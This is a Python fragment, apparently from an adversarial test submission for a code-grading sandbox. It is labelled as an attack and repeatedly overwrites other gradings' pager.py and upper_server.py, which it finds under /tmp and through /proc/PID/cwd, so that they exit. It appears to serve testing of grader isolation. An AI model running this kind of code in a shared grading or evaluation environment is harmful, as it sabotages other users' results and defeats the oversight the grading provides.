# ATTACK (neighbours): overwrite the modules of other gradings in their working
# folders, found in the temporary folder and through /proc/PID/cwd.
import glob as _glob

_PLANTED = "raise SystemExit('planted by a neighbour')\n"


def _plant_everywhere():
    folders = [f for depth in range(1, 5) for f in _glob.glob("/tmp/" + "*/" * depth + "student")]
    folders += [f"/proc/{pid}/cwd" for pid in _other_pids()]
    for folder in folders:
        try:
            if _os.path.realpath(folder) == _os.getcwd():
                continue  # its own
        except OSError:
            continue
        for name in ("pager.py", "upper_server.py"):
            try:
                with open(_os.path.join(folder, name), "w") as planted:
                    planted.write(_PLANTED)
            except OSError:
                pass


_again_and_again(_plant_everywhere, pause=0.2)
